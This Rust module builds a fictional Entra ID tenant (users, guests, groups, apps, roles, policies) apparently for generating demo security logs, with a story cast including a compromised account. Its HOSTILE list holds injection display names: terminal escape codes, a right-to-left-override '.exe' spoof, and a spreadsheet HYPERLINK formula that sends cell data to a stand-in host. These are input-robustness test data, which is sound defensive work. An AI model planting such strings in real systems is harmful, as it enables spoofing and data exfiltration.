//! Who and what is in the tenant: people, guests, groups, applications, devices, policies, roles, packages.
//! Never names anybody or anything that exists: Tidewick Instruments builds tide gauges in Reykjavík and is invented.

use super::random::{Guid, Random};

/// The company, as `homeTenantName` and the `Directory` target of PIM call it.
pub(super) const COMPANY: &str = "Tidewick Instruments";
/// The name of its domain.
pub(super) const DOMAIN: &str = "tidewick.example";

/// A user account.
#[derive(Clone, Debug)]
pub(super) struct User {
    pub(super) id: Guid,
    pub(super) name: String,
    pub(super) upn: String,
    pub(super) ip: String,
    pub(super) department: &'static str,
    pub(super) title: &'static str,
    pub(super) agent: &'static str,
}

/// A group; `kind` is Graph's `groupType`.
#[derive(Clone, Debug)]
pub(super) struct Group {
    pub(super) id: Guid,
    pub(super) name: String,
    pub(super) kind: &'static str,
}

/// An application: its registration, its service principal here, and its client id.
#[derive(Clone, Debug)]
pub(super) struct App {
    pub(super) id: Guid,
    pub(super) principal: Guid,
    pub(super) client: Guid,
    pub(super) name: String,
}

impl App {
    fn new(name: &str) -> Self {
        Self {
            id: Guid::of(&format!("registration {name}")),
            // The id that [`super::event::Actor::app`] gives the same name.
            principal: Guid::of(name),
            client: Guid::of(&format!("client {name}")),
            name: name.to_owned(),
        }
    }
}

/// A device.
#[derive(Clone, Debug)]
pub(super) struct Device {
    pub(super) id: Guid,
    pub(super) name: String,
    pub(super) system: &'static str,
    pub(super) version: &'static str,
}

/// A directory role: its name and the template id, which is the same in every tenant
/// (Microsoft Entra built-in roles).
#[derive(Clone, Copy, Debug)]
pub(super) struct Role {
    pub(super) name: &'static str,
    pub(super) template: &'static str,
}

impl Role {
    /// The role's object id in this tenant: not its template id.
    pub(super) fn id(&self) -> Guid {
        Guid::of(&format!("role {}", self.name))
    }
}

/// Everything the tenant consists of.
#[derive(Clone, Debug)]
pub(super) struct Tenant {
    /// [`STAFF`], then the others by how busy they are, then the [`CREW`] field engineers.
    pub(super) users: Vec<User>,
    /// Partners who were invited in the ordinary way; some chose odd display names.
    pub(super) guests: Vec<User>,
    pub(super) groups: Vec<Group>,
    pub(super) apps: Vec<App>,
    pub(super) devices: Vec<Device>,
    /// Conditional Access policies, by name.
    pub(super) policies: Vec<&'static str>,
}

/// How many field engineers stand at the end of [`Tenant::users`].
pub(super) const CREW: usize = 41;

/// Places of the people the stories need in [`Tenant::users`].
pub(super) mod cast {
    /// Leads identity; cleans up.
    pub(in crate::demo) const RAGNHEIDUR: usize = 0;
    /// Leads the service desk; his account is taken over.
    pub(in crate::demo) const MAREK: usize = 1;
    /// Security analyst.
    pub(in crate::demo) const IFEOMA: usize = 2;
    /// Cloud engineer.
    pub(in crate::demo) const DOV: usize = 3;
    /// Service desk.
    pub(in crate::demo) const SUNNIVA: usize = 4;
    /// Owns the applications.
    pub(in crate::demo) const PILAR: usize = 5;
    /// The people of the information technology department stand before this place.
    pub(in crate::demo) const ADMINS: usize = 6;
    /// Waits for an access package.
    pub(in crate::demo) const TOMASZ: usize = 6;
    /// Approves packages of the calibration laboratory, and is on leave.
    pub(in crate::demo) const YRSA: usize = 7;
    /// Her deputy, on the same ship.
    pub(in crate::demo) const BENEDIKT: usize = 8;
    /// Three people who clicked.
    pub(in crate::demo) const VICTIMS: [usize; 3] = [9, 10, 11];
}

/// Name, user name, department, title.
const STAFF: [(&str, &str, &str, &str); 12] = [
    ("Ragnheiður Bragadóttir", "ragnheidur.bragadottir", "IT", "Head of Identity"),
    ("Marek Toivonen", "marek.toivonen", "IT", "Service Desk Lead"),
    ("Ifeoma Castellan", "ifeoma.castellan", "IT", "Security Analyst"),
    ("Dov Hartigan", "dov.hartigan", "IT", "Cloud Engineer"),
    ("Sunniva Okoye", "sunniva.okoye", "IT", "Service Desk Agent"),
    ("Pilar Wetherby", "pilar.wetherby", "IT", "Application Owner"),
    ("Tomasz Averill", "tomasz.averill", "Metrology", "Calibration Scientist"),
    ("Yrsa Colquhoun", "yrsa.colquhoun", "Metrology", "Laboratory Head"),
    ("Benedikt Ashdown", "benedikt.ashdown", "Metrology", "Deputy Laboratory Head"),
    ("Leila Brandvold", "leila.brandvold", "Sales", "Account Manager"),
    ("Hugo Peverell", "hugo.peverell", "Finance", "Controller"),
    ("Noor Sandoval", "noor.sandoval", "Procurement", "Buyer"),
];

const FIRST: [&str; 50] = [
    "Ása",
    "Birkir",
    "Catalina",
    "Dagný",
    "Einar",
    "Farida",
    "Gísli",
    "Hadiza",
    "Ísak",
    "Jorun",
    "Kateryna",
    "Lúkas",
    "Mireille",
    "Nanami",
    "Ólöf",
    "Pietro",
    "Quentin",
    "Rúna",
    "Sölvi",
    "Tünde",
    "Ugo",
    "Vésteinn",
    "Wiebke",
    "Ximena",
    "Ylva",
    "Zoltán",
    "Þóra",
    "Ðeko",
    "Anselm",
    "Bronagh",
    "Cillian",
    "Desta",
    "Eyþór",
    "Freyja",
    "Goran",
    "Hrafn",
    "Imani",
    "Jun",
    "Kolbrún",
    "Levent",
    "Magdalena",
    "Nils",
    "Oyelaran",
    "Petra",
    "Ráhel",
    "Sindri",
    "Tariq",
    "Unnur",
    "Viktor",
    "Wen",
];
const LAST: [&str; 61] = [
    "Abernethy",
    "Bjarnason",
    "Cavendish",
    "Dellinger",
    "Eldjárn",
    "Fairweather",
    "Guðjónsdóttir",
    "Holloway",
    "Ibarra",
    "Jökulsson",
    "Kesselring",
    "Lockhart",
    "Marchetti",
    "Novotny",
    "Oddsdóttir",
    "Pemberton",
    "Quiroga",
    "Rasmussen",
    "Sæmundsson",
    "Thorncroft",
    "Umarov",
    "Vilhjálmsson",
    "Whitlock",
    "Xanthos",
    "Yamagata",
    "Zieliński",
    "Þorgeirsson",
    "Ashworth",
    "Benítez",
    "Calloway",
    "Drummond",
    "Ekström",
    "Fjeld",
    "Greaves",
    "Hallgrímsson",
    "Iversen",
    "Jellicoe",
    "Kavanagh",
    "Löwenthal",
    "Mbatha",
    "Nordahl",
    "O'Malley",
    "Papadakis",
    "Quill",
    "Rosenqvist",
    "Stefánsdóttir",
    "Tremblay",
    "Ulriksen",
    "Vandermeer",
    "Wickham",
    "Yilmaz",
    "Zamora",
    "Arnarson",
    "Bellweather",
    "Cromarty",
    "Dunmore",
    "Esterházy",
    "Finnbogason",
    "Gallagher",
    "Hawthorne",
    "Ísfeld",
];
const DEPARTMENTS: [(&str, &str); 9] = [
    ("Assembly", "Technician"),
    ("Electronics", "Design Engineer"),
    ("Firmware", "Software Engineer"),
    ("Sales", "Account Manager"),
    ("Finance", "Accountant"),
    ("Logistics", "Planner"),
    ("Metrology", "Calibration Scientist"),
    ("Quality", "Inspector"),
    ("People", "Partner"),
];

/// Browsers and programs, busiest first.
pub(super) const AGENTS: [&str; 8] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36 Edg/142.0.0.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:144.0) Gecko/20100101 Firefox/144.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (Linux; Android 15) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.26100; en-US) PowerShell/7.5.3",
    "AZURECLI/2.79.0 (DEB) azsdk-python-core/1.35.0 Python/3.12.10",
];

/// Display names that guests and applications gave themselves: everything a screen must survive.
pub(super) const HOSTILE: [&str; 7] = [
    "Quay \u{1b}[2J\u{1b}[31mROOT\u{1b}[0m\u{7}",
    "Invoice \u{202e}gpj.exe",
    "=HYPERLINK(\"http://tally.example/?\"&A1,\"Open\")",
    "Sup\u{200b}port\u{2060} Desk",
    "🦑 Deep Sea 👩🏽‍🔬 Lab ❤️",
    "潮位観測 東京 株式会社",
    "Zalgo o\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306} line\nbreak\tand tab",
];

const GUESTS: [(&str, &str, &str); 11] = [
    ("Amandine Forsberg", "amandine.forsberg", "fjordbuoy.example"),
    ("Osei Lundgren", "osei.lundgren", "fjordbuoy.example"),
    ("Mirela Haugen", "mirela.haugen", "keelworks.example"),
    ("Ruben Achterberg", "ruben.achterberg", "keelworks.example"),
    (HOSTILE[0], "quay", "brinecoast.example"),
    (HOSTILE[1], "invoice", "brinecoast.example"),
    (HOSTILE[2], "tally", "brinecoast.example"),
    (HOSTILE[3], "support-desk", "brinecoast.example"),
    (HOSTILE[4], "deepsea", "fjordbuoy.example"),
    (HOSTILE[5], "choi.kansoku", "choi-kansoku.example"),
    (HOSTILE[6], "zalgo", "brinecoast.example"),
];

const APPS: [&str; 33] = [
    "Backup Orchestrator",
    "Tidewick People Sync",
    "Shift Planner",
    "Gauge Telemetry Ingest",
    "Calibration Ledger",
    "Harbour Portal",
    "Expense Reef",
    "Print Pier",
    "Parts Catalogue",
    "Firmware Signing",
    "Build Lighthouse",
    "Ticket Cove",
    "Wiki Anchorage",
    "Survey Sextant",
    "Badge Gate",
    "Payroll Ballast",
    "Fleet Charts",
    "Meeting Rooms",
    "Password Locker",
    "Log Shipper",
    "Warehouse Scanner",
    "Vendor Dock",
    "Training Deck",
    "Chat Bridge",
    "Signature Desk",
    "Contract Keel",
    "Map Tiles",
    "Translation Mate",
    "Design Vault",
    "Tide Forecast API",
    "Mail Archive",
    HOSTILE[2],
    "Öğrenci ポータル 🦀",
];

const GROUPS: [&str; 40] = [
    "SG-Tier0-Operators",
    "SG-CA-Exclusions",
    "SG-Licences-E5",
    "SG-Licences-F3",
    "SG-VPN-Users",
    "SG-Assembly-Floor",
    "SG-Electronics-CAD",
    "SG-Firmware-Repos",
    "SG-Finance-Ledger",
    "SG-Quality-Records",
    "SG-Metrology-Lab",
    "SG-Warehouse-Scanners",
    "SG-Print-Reykjavik",
    "SG-Break-Glass",
    "SG-PIM-Approvers",
    "SG-Passkey-Pilot",
    "SG-Autopilot-Devices",
    "SG-Guest-Partners",
    "SG-Backup-Readers",
    "SG-Contractors",
    "All Company",
    "Assembly",
    "Electronics",
    "Firmware",
    "Sales",
    "Finance",
    "Logistics",
    "Metrology",
    "Quality",
    "People",
    "Boat Club",
    "Canteen",
    "Fire Wardens",
    "Tide Gauge 5 Launch",
    "Supplier Audit 2026",
    "DYN-Everyone-In-Iceland",
    "DYN-Managed-Windows",
    "DYN-New-Joiners",
    "Works Council",
    "Night Shift 🌙",
];

const POLICIES: [&str; 12] = [
    "CA001 Block legacy authentication",
    "CA002 Require MFA for all users",
    "CA003 Require compliant device for Office",
    "CA004 Require MFA for administrators",
    "CA005 Block high sign-in risk",
    "CA006 Require password change at high user risk",
    "CA007 Guests: terms of use",
    "CA008 Azure management: phishing-resistant",
    "CA009 Register security info from trusted places",
    "CA010 Session limit unmanaged devices",
    "CA011 Block unknown platforms",
    "CA012 Break glass: alert only",
];

/// Roles, most asked for first.
pub(super) const ROLES: [Role; 14] = [
    Role { name: "Helpdesk Administrator", template: "729827e3-9c14-49f7-bb1b-9608f156bbb8" },
    Role { name: "User Administrator", template: "fe930be7-5e62-47db-91af-98c3a49a38b1" },
    Role { name: "Intune Administrator", template: "3a2c62db-5318-420d-8d74-23affee5d9d5" },
    Role { name: "Exchange Administrator", template: "29232cdf-9323-42fd-ade2-1d097af3e4de" },
    Role { name: "Security Reader", template: "5d6b6bb7-de71-4623-b4af-96380a352509" },
    Role { name: "Reports Reader", template: "4a5d8f65-41da-4de4-8968-e035b65339cf" },
    Role { name: "Global Reader", template: "f2ef992c-3afb-46b9-b7cf-a126ee74c451" },
    Role {
        name: "Cloud Application Administrator",
        template: "158c047a-c907-4556-b7ef-446551a6b5f7",
    },
    Role { name: "Authentication Administrator", template: "c4e39bd9-1100-46d3-8c65-fb160da0071f" },
    Role { name: "Security Administrator", template: "194ae4cb-b126-40b2-bd5b-6091b380977d" },
    Role {
        name: "Conditional Access Administrator",
        template: "b1be1c3e-b65d-4f19-8427-f6fa0d97feb9",
    },
    Role {
        name: "Privileged Role Administrator",
        template: "e8611ab8-c189-46e8-94e1-60213ab1f814",
    },
    Role {
        name: "Hybrid Identity Administrator",
        template: "8ac3fc64-6eca-42ea-9e69-59f4c7b60eb2",
    },
    Role { name: "Global Administrator", template: "62e90394-69f5-4237-9190-012177145e10" },
];
/// Place of Global Administrator in [`ROLES`].
pub(super) const GLOBAL_ADMINISTRATOR: Role = ROLES[13];
/// Place of Privileged Role Administrator in [`ROLES`].
pub(super) const PRIVILEGED_ROLE_ADMINISTRATOR: Role = ROLES[11];
/// Place of Hybrid Identity Administrator in [`ROLES`].
pub(super) const HYBRID_IDENTITY_ADMINISTRATOR: Role = ROLES[12];

impl User {
    /// A member of the company.
    pub(super) fn member(
        name: &str,
        local: &str,
        post: (&'static str, &'static str),
        ip: String,
        agent: &'static str,
    ) -> Self {
        let upn = format!("{local}@{DOMAIN}");
        Self {
            id: Guid::of(&upn),
            name: name.to_owned(),
            upn,
            ip,
            department: post.0,
            title: post.1,
            agent,
        }
    }

    /// Somebody invited from another company.
    pub(super) fn guest(name: &str, local: &str, domain: &str, ip: String) -> Self {
        let upn = format!("{local}_{domain}#EXT#@{DOMAIN}");
        Self {
            id: Guid::of(&upn),
            name: name.to_owned(),
            upn,
            ip,
            department: "",
            title: "",
            agent: AGENTS[2],
        }
    }

    /// The address somebody was invited at: `a_b.example#EXT#@…` is `a@b.example`.
    pub(super) fn mail(&self) -> String {
        match self.upn.split_once("#EXT#") {
            Some((outside, _)) => match outside.rsplit_once('_') {
                Some((local, domain)) => format!("{local}@{domain}"),
                None => outside.to_owned(),
            },
            None => self.upn.clone(),
        }
    }
}

impl Tenant {
    /// The tenant as large as a log of `records` records asks for; 180 users at least.
    pub(super) fn new(records: usize) -> Self {
        let mut random = Random::new(0, 0);
        let size = (records / 50).clamp(180, 20_000);
        let mut users: Vec<User> = Vec::with_capacity(size);
        for (name, local, department, title) in STAFF {
            let ip = address(&mut random);
            users.push(User::member(name, local, (department, title), ip, agent(&mut random)));
        }
        for index in CREW..size - STAFF.len() {
            users.push(somebody(index, None, &mut random));
        }
        for index in 0..CREW {
            users.push(somebody(index, Some(("Field Service", "Field Engineer")), &mut random));
        }
        let guests = GUESTS
            .iter()
            .map(|(name, local, domain)| User::guest(name, local, domain, address(&mut random)))
            .collect();
        Self {
            users,
            guests,
            groups: groups(records),
            apps: apps(records),
            devices: devices(size / 3, &mut random),
            policies: POLICIES.to_vec(),
        }
    }

    /// Somebody of the information technology department, the lead more often than the others.
    pub(super) fn admin(&self, random: &mut Random) -> &User {
        &self.users[random.skewed(cast::ADMINS)]
    }

    /// A group without a story.
    pub(super) fn ordinary_group(&self, random: &mut Random) -> &Group {
        &self.groups[2 + random.skewed(self.groups.len() - 2)]
    }
}

fn somebody(index: usize, post: Option<(&'static str, &'static str)>, random: &mut Random) -> User {
    let first = FIRST[index % FIRST.len()];
    let last = LAST[index % LAST.len()];
    let name = format!("{first} {last}");
    let mut local = ascii(first) + "." + &ascii(last);
    // Names repeat after 50 × 61 people.
    let again = index / (FIRST.len() * LAST.len());
    if again > 0 {
        local.push_str(&(again + 1).to_string());
    }
    let post = post.unwrap_or(DEPARTMENTS[index % DEPARTMENTS.len()]);
    User::member(&name, &local, post, address(random), agent(random))
}

fn ascii(name: &str) -> String {
    let mut plain = String::with_capacity(name.len());
    for letter in name.to_lowercase().chars() {
        match letter {
            'á' => plain.push('a'),
            'é' => plain.push('e'),
            'í' => plain.push('i'),
            'ó' | 'ö' => plain.push('o'),
            'ú' | 'ü' => plain.push('u'),
            'ð' => plain.push('d'),
            'þ' => plain.push_str("th"),
            'æ' => plain.push_str("ae"),
            'ń' => plain.push('n'),
            letter if letter.is_ascii_alphanumeric() => plain.push(letter),
            _ => {}
        }
    }
    plain
}

/// The office's two exits, or an address at home. Never 192.0.2.0/24: only intruders come from there.
fn address(random: &mut Random) -> String {
    match random.below(10) {
        0..=5 => format!("198.51.100.{}", 10 + random.below(2)),
        6..=8 => format!("203.0.113.{}", 2 + random.below(250)),
        _ => format!(
            "2001:db8:{:x}:{:x}::{:x}",
            random.below(4096),
            random.below(65536),
            1 + random.below(99)
        ),
    }
}

fn agent(random: &mut Random) -> &'static str {
    AGENTS[random.skewed(6)]
}

fn groups(records: usize) -> Vec<Group> {
    let more = (records / 1_000).min(4_000);
    let named = GROUPS.iter().map(|name| (*name).to_owned());
    let numbered = (0..more.saturating_sub(GROUPS.len()))
        .map(|index| format!("SG-{}-{:04}", DEPARTMENTS[index % DEPARTMENTS.len()].0, index + 1));
    let kind = |name: &str| match name.get(..3) {
        Some("SG-") => "azureAD",
        Some("DYN") => "unknownFutureValue",
        _ => "unifiedGroups",
    };
    named
        .chain(numbered)
        .map(|name| Group { id: Guid::of(&format!("group {name}")), kind: kind(&name), name })
        .collect()
}

fn apps(records: usize) -> Vec<App> {
    let more = (records / 4_000).min(1_000);
    let named = APPS.iter().map(|name| App::new(name));
    let numbered = (0..more.saturating_sub(APPS.len()))
        .map(|index| App::new(&format!("{} {}", APPS[2 + index % 29], index / 29 + 2)));
    named.chain(numbered).collect()
}

/// An application by name that is not on the tenant's ordinary list.
pub(super) fn stranger(name: &str) -> App {
    App::new(name)
}

fn devices(count: usize, random: &mut Random) -> Vec<Device> {
    const KINDS: [(&str, &str, &str); 5] = [
        ("TW-LT", "Windows", "10.0.26100.6899"),
        ("TW-WS", "Windows", "10.0.22631.6060"),
        ("TW-MAC", "MacMDM", "15.7.1"),
        ("TW-PHONE", "IPhone", "18.6.2"),
        ("TW-SCAN", "AndroidEnterprise", "15"),
    ];
    (0..count.max(60))
        .map(|index| {
            let (prefix, system, version) = KINDS[random.skewed(KINDS.len())];
            let name = format!("{prefix}-{:05}", 10_000 + index * 37 % 90_000);
            Device { id: Guid::of(&format!("device {index}")), name, system, version }
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashSet;

    #[test]
    fn nobody_shares_a_user_name_and_the_cast_stands_in_its_places() {
        for records in [6_000, 1_000_000] {
            let tenant = Tenant::new(records);
            let names: HashSet<&str> = tenant.users.iter().map(|user| user.upn.as_str()).collect();
            assert_eq!(names.len(), tenant.users.len());
            assert!(tenant.users[cast::MAREK].upn.starts_with("marek."));
            assert!(tenant.users[cast::BENEDIKT].upn.starts_with("benedikt."));
            assert!(tenant.users[cast::VICTIMS[2]].upn.starts_with("noor."));
            assert_eq!(tenant.users[tenant.users.len() - CREW].department, "Field Service");
        }
        let tenant = Tenant::new(6_000);
        assert_eq!((tenant.users.len(), tenant.groups.len(), tenant.devices.len()), (180, 40, 60));
    }

    #[test]
    fn user_names_are_ascii_and_addresses_are_for_documentation() {
        for user in Tenant::new(6_000).users {
            assert!(user.upn.is_ascii() && user.upn.ends_with("@tidewick.example"), "{}", user.upn);
            assert!(
                ["198.51.100.", "203.0.113.", "2001:db8:"]
                    .iter()
                    .any(|net| user.ip.starts_with(net)),
                "{}",
                user.ip
            );
        }
    }

    #[test]
    fn a_guest_keeps_the_address_they_were_invited_at() {
        let guest = User::guest("A", "a_b.c", "d.example", String::new());
        assert_eq!(guest.mail(), "a_b.c@d.example");
    }
}
